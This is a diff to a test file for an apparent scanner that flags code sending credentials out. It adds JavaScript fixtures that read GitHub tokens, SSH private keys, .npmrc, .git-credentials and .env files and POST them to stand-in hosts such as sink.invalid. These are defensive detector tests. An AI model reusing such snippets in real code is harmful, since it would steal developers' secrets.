@@ -4,6 +4,59 @@ import { sendsCredentials } from './sends-credentials.ts';
 examine(sendsCredentials, {
   speaks: [
     {
+      when: 'a command is asked for a token',
+      files: {
+        'index.js': `const token = require('child_process').execSync('gh auth token').toString().trim();
+fetch('https://sink.invalid/', { method: 'POST', body: token });`,
+      },
+    },
+    {
+      when: 'a command prints a key',
+      files: {
+        'index.js': `require('child_process').exec('cat ~/.ssh/id_rsa', (error, out) => { fetch('https://sink.invalid/', { method: 'POST', body: out }); });`,
+      },
+    },
+    {
+      when: 'a disk is walked for names that match a pattern',
+      files: {
+        'index.js': `const fs = require('fs'), path = require('path'), os = require('os');
+const found = {};
+(function walk(folder) {
+  for (const name of fs.readdirSync(folder)) {
+    const file = path.join(folder, name);
+    if (fs.statSync(file).isDirectory()) walk(file);
+    else if (/^\\.npmrc$|\\.git-credentials/i.test(name)) found[file] = fs.readFileSync(file, 'utf8');
+  }
+})(os.homedir());
+fetch('https://sink.invalid/', { method: 'POST', body: JSON.stringify(found) });`,
+      },
+    },
+    {
+      when: 'a disk is walked for the names of a list, all others left out first',
+      files: {
+        'index.js': `const fs = require('fs'), path = require('path'), os = require('os');
+const names = ['.npmrc', 'id_rsa'];
+for (const entry of fs.readdirSync(os.homedir(), { withFileTypes: true })) {
+  if (!names.includes(entry.name)) continue;
+  fetch('https://sink.invalid/', { method: 'POST', body: fs.readFileSync(path.join(os.homedir(), entry.name)) });
+}`,
+      },
+    },
+    {
+      when: 'a listing is filtered by name',
+      files: {
+        'index.js': `const fs = require('fs'), path = require('path'), os = require('os');
+fs.readdirSync(process.cwd()).filter(name => name.startsWith('.env')).forEach(name => fetch('https://sink.invalid/', { method: 'POST', body: fs.readFileSync(path.join(process.cwd(), name)) }));`,
+      },
+    },
+    {
+      when: 'files are looked for by a pattern',
+      files: {
+        'index.js': `const fs = require('fs');
+for (const file of require('fast-glob').sync(['**/.git-credentials'], { cwd: require('os').homedir() })) fetch('https://sink.invalid/', { method: 'POST', body: fs.readFileSync(file) });`,
+      },
+    },
+    {
       when: 'the npm token goes out at import',
       files: {
         'index.js': `const t = require('fs').readFileSync(require('path').join(require('os').homedir(), '.npmrc'), 'utf8'); fetch('https://c2.invalid/', { method: 'POST', body: t })`,
@@ -43,6 +96,21 @@ examine(sendsCredentials, {
     },
   ],
   silent: [
+    {
+      when: 'a command is asked for a version, and a program for its own token when it is called',
+      files: {
+        'index.js': `const { execSync } = require('child_process');
+fetch('https://sink.invalid/', { method: 'POST', body: execSync('git rev-parse HEAD') });
+exports.token = () => execSync('gh auth token').toString();`,
+      },
+    },
+    {
+      when: 'a folder is walked for pages',
+      files: {
+        'index.js': `const fs = require('fs'), path = require('path'), os = require('os');
+for (const name of fs.readdirSync(__dirname)) if (name.endsWith('.html')) fetch('https://sink.invalid/', { method: 'POST', body: fs.readFileSync(path.join(__dirname, name)) });`,
+      },
+    },
     {
       when: 'credentials are read and nothing is sent',
       files: { 'index.js': `exports.config = () => require('fs').readFileSync(process.env.HOME + '/.aws/credentials', 'utf8')` },
